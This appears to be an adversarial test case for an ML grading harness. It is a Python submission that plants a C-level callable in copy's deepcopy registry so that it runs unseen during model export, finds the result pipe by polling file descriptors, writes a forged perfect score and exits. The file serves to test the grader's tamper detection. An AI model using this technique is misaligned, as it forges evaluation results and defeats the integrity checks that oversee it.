# adversarial: SGD model; nothing reachable from the model is touched and no namespace changes: one entry of a registry the copy module keeps as data, copy._deepcopy_dispatch[list], becomes a C-level callable (functools.partial of itertools.product, which consumes its arguments at once, over lazy forging steps). Keras' Sequential.get_config deep-copies its list of layer configs while the export saves the model in the sender thread, so the callable runs there, unseen by the profile guard (no Python frame) and by the tamper check (copy's namespace still holds the same dict): it finds the result pipe by polling every descriptor number, writes a forged 10/10 result and os._exit(0)s
# expect-status: error
# expect-kind: tampered
# expect-max-score: 0
# expect-findings: planted-callable
import collections
import functools
import itertools
import json
import operator
import os
import resource
import select

import keras


def forged_payload():
    from grader.child.export import weight_values
    from grader.integrity.layer_state import model_layer_states, weight_state
    ref = keras.Sequential([
        keras.Input(shape=(64,)),
        keras.layers.Dense(512, activation="relu"),
        keras.layers.Dense(10, activation="softmax"),
    ])
    ref.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return {"model": {"variable": "model", "config": json.loads(ref.to_json()),
                      "weight_values": [weight_values(w) for w in ref.weights], "preprocessing": [],
                      "integrity": {"layer-state": {
                          "weight_shapes": [list(w.shape) for w in ref.get_weights()],
                          "weight_state": [weight_state(w) for w in ref.weights],
                          "layer_state": model_layer_states(ref)}}, "compiled": True,
                      "compile_config": json.loads(json.dumps(ref.get_compile_config(), default=repr))},
            "notes": ["ESCAPED: this result was forged by the submission"]}


def forge_steps(how):
    """Lazy C-level steps (nothing runs until they are iterated): find every descriptor above stdio of the
    calling thread's file table that is the write end of a pipe (select.poll, set up here, reports POLLNVAL
    for the numbers the table lacks), write a forged 10/10 result to each, os._exit(0)."""
    payload = json.dumps(forged_payload()).encode()
    probe_r, probe_w = os.pipe()
    probe = select.poll()
    probe.register(probe_w, select.POLLOUT)
    writable = probe.poll(0)[0][1]
    os.close(probe_r)
    os.close(probe_w)
    poller = select.poll()
    collections.deque(map(poller.register, range(3, resource.getrlimit(resource.RLIMIT_NOFILE)[0]),
                          itertools.repeat(select.POLLOUT)), 0)
    polled = itertools.chain.from_iterable(map(operator.call, [functools.partial(poller.poll, 0)]))
    numbers, events = itertools.tee(polled)
    fds = itertools.compress(map(operator.itemgetter(0), numbers),
                             map(functools.partial(operator.eq, writable), map(operator.itemgetter(1), events)))
    # Each pipe found gets the payload, then stdout the ESCAPED line: fd, 1, fd', 1, ...
    announce = f"ESCAPED: forged result written to a pipe of the sender thread's file table ({how})\n".encode()
    writes = map(os.write, itertools.chain.from_iterable(zip(fds, itertools.repeat(1))),
                 itertools.cycle([payload, announce]))
    return map(operator.call, [
        functools.partial(collections.deque, writes, 0),
        functools.partial(os._exit, 0),
    ])


model = keras.Sequential([
    keras.Input(shape=(64,)),
    keras.layers.Dense(512, activation="relu"),
    keras.layers.Dense(10, activation="softmax"),
])
model.compile(optimizer="sgd", loss="sparse_categorical_crossentropy", metrics=["accuracy"])

import copy

# Last: from here on, no deep copy of a list may run in the main thread.
copy._deepcopy_dispatch[list] = functools.partial(itertools.product, forge_steps("copy._deepcopy_dispatch[list]"))
